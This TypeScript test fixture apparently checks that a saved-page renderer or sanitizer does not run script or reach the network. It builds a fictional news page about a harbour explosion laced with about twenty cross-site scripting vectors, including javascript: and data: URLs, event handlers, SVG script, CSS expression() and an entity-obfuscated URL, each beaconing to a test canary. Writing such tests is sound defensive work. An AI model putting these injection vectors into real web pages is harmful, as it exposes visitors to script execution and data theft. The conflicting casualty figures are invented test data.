// A saved web page that tries every way we know to run script or reach the network when it is shown:
// inline and external scripts, event handlers, javascript: and data: URLs in links, frames, objects and
// forms, SVG script, meta refresh, <base>, CSS expression() and url(javascript:), a <template>, and an
// entity-obfuscated "jav&#x61;script:". Every payload, if it ran, would leave a mark the test can see:
// window.__pwned, a "PWNED" title, a "PWNED" console line, and a request to the canary server.

/** The JavaScript one payload runs: marks the window, the title, the console, and calls the canary. */
export function payload(canary: string, id: string): string {
  return (
    `window.__pwned=(window.__pwned||'')+' ${id}';document.title='PWNED ${id}';console.log('PWNED ${id}');` +
    `new Image().src='${canary}/img/${id}';fetch('${canary}/fetch/${id}').catch(function(){})`
  );
}

/** Words of the article that are themselves payload text: they must show up as words, and nothing more. */
export const payloadSentence = `<script>document.title='PWNED text'</script>`;
export const hostileTitle = 'Harbour council minutes leaked';

export function hostilePage(canary: string): string {
  const p = (id: string) => payload(canary, id);
  return `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0;url=${canary}/refresh">
<base href="${canary}/base/">
<title>${hostileTitle}</title>
<meta name="author" content="Jana Okafor">
<meta property="og:site_name" content="The Quayside Courier">
<link rel="canonical" href="${canary}/canonical">
<link rel="stylesheet" href="${canary}/link.css">
<script>${p('inline-script')}</script>
<script src="${canary}/external.js"></script>
<style>
@import url(${canary}/import.css);
body { background-image: url(javascript:${p('css-url')}); width: expression(${p('css-expression')}); }
</style>
</head>
<body onload="${p('body-onload')}">
<article>
<h1>${hostileTitle}</h1>
<p>The minutes of the harbour council's closed session on the Quay Seven explosion reached this newspaper on Friday, three days after the meeting, in a folder left at the front desk without a name.</p>
<p>According to the minutes, three people were killed in the explosion at the Quay Seven fuel terminal, and the council was told that a valve on the transfer line had failed shortly after eleven at night.</p>
<p>The folder also held a printout of a web form in which someone had typed the line &lt;script&gt;document.title='PWNED text'&lt;/script&gt; into the comment box, apparently as a prank on the council's website.</p>
<p><img src="x" onerror="${p('img-onerror')}">Council members said they would publish the minutes in full <a href="javascript:${p('a-href')}">on their website</a>, after <a href="jav&#x61;script:${p('entity-href')}">the inquiry</a> reports, and sent <a href="data:text/html,<script>${p('data-link')}</script>">a statement</a> by email.</p>
<iframe src="javascript:${p('iframe-javascript')}"></iframe>
<iframe src="data:text/html,<script>${p('iframe-data')}</script>"></iframe>
<iframe srcdoc="<script>${p('iframe-srcdoc')}</script>"></iframe>
<svg xmlns="http://www.w3.org/2000/svg"><script>${p('svg-script')}</script></svg>
<svg onload="${p('svg-onload')}"><rect width="10" height="10"/></svg>
<object data="javascript:${p('object')}"></object>
<embed src="javascript:${p('embed')}">
<form action="javascript:${p('form')}"><input name="q" autofocus onfocus="${p('input-onfocus')}"><button>Send</button></form>
<template><script>${p('template-script')}</script><img src="x" onerror="${p('template-img')}"></template>
<details open ontoggle="${p('details-ontoggle')}"><summary>More</summary>Nothing else.</details>
<div style="background:url(javascript:${p('style-attribute')})">The harbour authority declined to comment on the minutes before the inquiry reports.</div>
<p>The mayor said on Saturday that the families of the dead deserved to read every page of the inquiry, and that she would not rest until they could.</p>
</article>
</body>
</html>
`;
}

/** A second, harmless account of the same event: for comparing against, and for a disagreement. */
export const otherAccount = [
  'Five dead in Quay Seven blast, says harbour union',
  '',
  'Five people were killed in the explosion at the Quay Seven fuel terminal, the harbour union said, and the valve on the transfer line had been leaking for months.',
  '',
  'The mayor said the families of the dead deserved answers, and that she would not rest until they had them.',
].join('\n');
